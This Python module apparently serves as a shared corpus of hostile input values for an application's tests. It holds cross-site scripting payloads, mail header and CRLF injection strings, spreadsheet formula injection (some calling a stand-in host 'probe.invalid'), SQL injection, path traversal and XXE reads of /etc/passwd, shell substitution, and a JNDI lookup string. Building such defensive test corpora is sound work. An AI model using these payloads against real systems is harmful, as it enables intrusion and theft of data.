"""Texts that were written to break a page, a mail or a number; one list for all tests and `bin/proof hostile`."""

from collections.abc import Iterator
from dataclasses import dataclass

PROBE = "probe.invalid"  # a host that no name server can know: who asks for it was made to
RUN = "alert(1)"

SCRIPTS = [
    f"<script>{RUN}</script>", f"\"><script>{RUN}</script>", f"'><script src=//{PROBE}/x.js></script>",
    f"<img src=x onerror={RUN}>", f"\"'><img src=//{PROBE}/x onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><image href=//{PROBE}/x /></svg>", f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<a href=javascript:{RUN} id=x>x</a>", f"javascript:{RUN}", f"java\tscript:{RUN}", f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>", f"\" autofocus onfocus={RUN} x=\"", f"' autofocus onfocus={RUN} x='",
    f"x onfocus={RUN} autofocus x=", f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"</option></select><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--", f"<details open ontoggle={RUN}>", f"<input onfocus={RUN} autofocus>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<math><mtext></mtext><mglyph><style><!--</style><img title=\"--><img src=x onerror={RUN}>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<style>@import '//{PROBE}/x.css';</style>",
    f"<style>*{{background:url(//{PROBE}/x)}}</style>", f"<p style=\"background:url(//{PROBE}/x)\">",
    f"<link rel=stylesheet href=//{PROBE}/x.css>", f"<meta http-equiv=refresh content=\"0;url=//{PROBE}/\">",
    f"<base href=//{PROBE}/>", f"<object data=//{PROBE}/x></object>", f"<embed src=//{PROBE}/x>",
    f"<b hx-get=//{PROBE}/x hx-trigger=load>x</b>", f"<b hx-on::load={RUN} data-hx-on:click={RUN}>x</b>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"{{{{constructor.constructor('{RUN}')()}}}}", "{{ 7|add:7 }}{% debug %}{% include '/etc/passwd' %}",
    "<c-icon name=\"alert\" />", "{}${7*7}#{7*7}%(x)s%s{0.__class__}",
]  # fmt: skip

HEADERS = [
    f"a@b.example\r\nBcc: x@{PROBE}", "x\r\nX-Evil: 1", "x\nX-Evil: 1", "x\rX-Evil: 1", "x%0d%0aX-Evil: 1",
    "x\u2028X-Evil: 1", "x\x85X-Evil: 1", "x\x0bX-Evil: 1", "\u560a\u560dX-Evil: 1",
    f"\"x\" <a@b.example>, c@{PROBE}", f"a@b.example,x@{PROBE}", f"a@b.example>\r\nRCPT TO:<x@{PROBE}>",
    f"=?utf-8?q?x=0D=0ABcc:_x@{PROBE}?=", f"x\r\nSet-Cookie: session=planted\r\n\r\n<script>{RUN}</script>",
    f"\"a\\\"\r\n b\"@{PROBE}", f"//{PROBE}/", f"https://{PROBE}/", f"/\\{PROBE}/",
    "http://[", "//[x/a/office/b",
]  # fmt: skip

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1",
    "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", f"=HYPERLINK(\"http://{PROBE}/\",\"x\")", "=cmd|' /C calc'!A0",
    "\";=1+1;\"", "x\r\n=1+1", f"=IMPORTXML(\"http://{PROBE}/\",\"//a\")",
]  # fmt: skip

LONG = ["W" * 5_000, "9" * 50_000, "a " * 20_000, "\U0001f469\u200d" * 3_000, "<" * 20_000, "(" * 10_000]
NUL = ["\x00", "a\x00b", "/a\x00b/office/c/", f"<scr\x00ipt>{RUN}</scr\x00ipt>", "a@b.example\x00.png"]
TURNING = [
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u200fa",
    "\u061ca",
    "a\u202db\u202c",
    "\ufeffa",
    "\u200b",
    "a\u0301" * 300,
]
EMAILS = [
    f"\"<script>{RUN}</script>\"@b.example", "\"a,b\"@b.example", f"\"a@{PROBE}\"@b.example", "\"a\\\"b\"@b.example",
    "'or'1'='1@b.example", "a@[127.0.0.1]", "a%b@b.example", "=1+1@b.example", "-oQ/tmp@b.example",
    "a@m\u00fcnchen.example", "\u00e4@b.example", "a@b.example.", "a..b@b.example", f"{'a' * 64}@b.example",
    f"a@{'b' * 60}.{'c' * 60}.example",
    "\"\x01\"@b.example", "<a@b.example>", "a@b.example, c@b.example", "a@b.example\r\nBcc: c@b.example", "a@b", "@",
    "a?bcc=c@b.example", "a&body=c@b.example", "a@xn--.example", "{link}@b.example", "\"{link}\"@b.example",
]  # fmt: skip
ODD = [
    "\ufdfa" * 40, "{link}", "%(name)s", "\u1e9e" * 40,
    "\ufffe\U0010ffff", "\ue000", "\x07\x1b[31m", "\u0661\u0662\u0663", "1e400000", "-NaN", "Infinity", "1" * 4_500,
    "9999-99-99", "0000-00-00", "9999-12-31", "0001-01-01", "2026-02-30", "-1", "0x10", "1_000", "1.2.3,4",
    '{"a": [1]}', "[]", "null", "' OR 1=1 --", "'; DROP TABLE x; --", "%", "_", "\\",
    "../../../etc/passwd", "..\\..\\x", "$(id)", "`id`",
    "| id", "${jndi:ldap://probe.invalid/x}", "*)(uid=*", " ", "\u00a0", "\n\n\n",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
]  # fmt: skip

WRONG_BYTES = [
    b"\xff\xfe", b"\x80", b"K\xe4the", b"\xc0\xaf", b"\xc0\xbcscript\xc0\xbe", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf",
    b"\xc0\x80", b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xe2\x28\xa1",
    b"\xe2\x82", "Käthe".encode("utf-16"), "Käthe".encode("utf-16-le"), "Käthe".encode("utf-32"), b"\x1b$B!!\x1b(B",
]  # fmt: skip


@dataclass(frozen=True, slots=True)
class Vector:
    """One hostile value, as the bytes that are sent."""

    kind: str
    number: int
    value: bytes

    @property
    def text(self) -> str:
        """What an honest reader makes of it."""
        return self.value.decode("utf-8", "replace")

    def __str__(self) -> str:
        return f"{self.kind} {self.number}"


KINDS = {
    "script": SCRIPTS, "header line": HEADERS, "formula": FORMULAS, "too long": LONG, "NUL": NUL,
    "turning mark": TURNING, "odd": ODD, "mail address": EMAILS,
}  # fmt: skip


def vectors() -> Iterator[Vector]:
    """The whole corpus of texts."""
    for kind, values in KINDS.items():
        for number, value in enumerate(values, 1):
            yield Vector(kind, number, value.encode("utf-8"))
    for number, raw in enumerate(WRONG_BYTES, 1):
        yield Vector("wrong encoding", number, raw)


VECTORS = tuple(vectors())
